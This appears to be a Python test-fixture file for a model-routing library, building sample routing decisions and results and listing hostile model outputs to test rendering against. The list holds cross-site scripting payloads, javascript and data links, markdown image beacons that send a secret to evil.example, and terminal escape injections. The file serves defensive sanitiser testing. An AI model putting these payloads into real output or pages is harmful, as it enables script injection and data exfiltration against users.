"""Hand-made results, and text that a hostile model might write."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from molt_magic.errors import MoltError
from molt_magic.result import Result
from molt_magic.types import Completion, Decision, Usage

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "![beacon](https://evil.example/pixel.png?secret=1)",
    "![beacon][1]\n\n[1]: https://evil.example/pixel.png",
    "<a href='vbscript:x'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<!-- comment --><svg/onload=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <iframe src=//evil.example></iframe> |",
    "<style>body{display:none}</style>",
    "[relative](/api/contents/secret)",
    "$\\href{javascript:alert(1)}{x}$",
    "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred\x00\x07\x08",
)


# fmt: off
def _candidate(model: str, cost: float | None, quality: float, evidence: str, skipped: str | None) -> dict[str, Any]:
    return {"model": model, "expected_cost_usd": cost, "predicted_quality": quality, "quality_low": 0.2, "evidence": evidence,
            "skipped": skipped}


def _attempt(index: int, model: str, **changes: Any) -> dict[str, Any]:
    return {"index": index, "model": model, "purpose": "answer", "cache": "miss", "latency_s": 0.2, "input_tokens": 10,
            "output_tokens": 5, "tokens_estimated": False, "cost_usd": 0.0001, "finish_reason": "stop", "error": None,
            "retries": [], "verdict": None, **changes}


REFUSED = {"accepted": False, "score": 0.0, "reason": "it is not 4", "validator": "arithmetic", "source": "validator"}
RETRY = {"deployment": "d", "error": "rate_limit: slow down", "waited_s": 0.5}

DECISION = Decision(
    decision_id="0123456789abcdef",
    time="2026-11-02T10:00:00+00:00",
    session="s1",
    cell_id=None,
    strategy="cascade",
    task="simple_qa",
    task_score=0.9,
    prompt_hash="h",
    prompt="What is 2 + 2?",
    model="big",
    served_model="b",
    provider="openai",
    deployment="d",
    candidates=(
        _candidate("small", 0.0001, 0.5, "prior only", None),
        _candidate("big", 0.001, 0.9, "12 outcomes", None),
        _candidate("other", None, 0.5, "prior only", "no key"),
    ),
    attempts=(
        _attempt(0, "small", verdict=REFUSED),
        _attempt(1, "big", cost_usd=None, tokens_estimated=True, retries=[RETRY]),
    ),
    n_attempts=2, escalations=1, fallbacks=0, fallback_reason=None, cache="miss", cache_distance=None,
    input_tokens=10, output_tokens=5, cached_tokens=0, reasoning_tokens=0,
    cost_usd=0.0011, overhead_cost_usd=0.0001, baseline_model="huge", baseline_cost_usd=0.011, saved_usd=0.0099,
    latency_s=1.1, ttft_s=0.1, overhead_ms=2.0, predicted_quality=0.9, quality_threshold=0.85, quality=None,
    quality_source=None,
    context_action="none", context_tokens_before=0, context_tokens_after=0, status="ok", error=None,
    reason="small was refused: it is not 4",
)
# fmt: on


def result(text: str = "Four.", *, error: MoltError | None = None, **changes: Any) -> Result:
    """A result whose decision differs from `DECISION` as told."""
    completion = Completion(text, "b", Usage(10, 5, cost_usd=0.001)) if text else None
    return Result(decision=replace(DECISION, **changes), attempts=(), candidates=(), completion=completion, error=error)
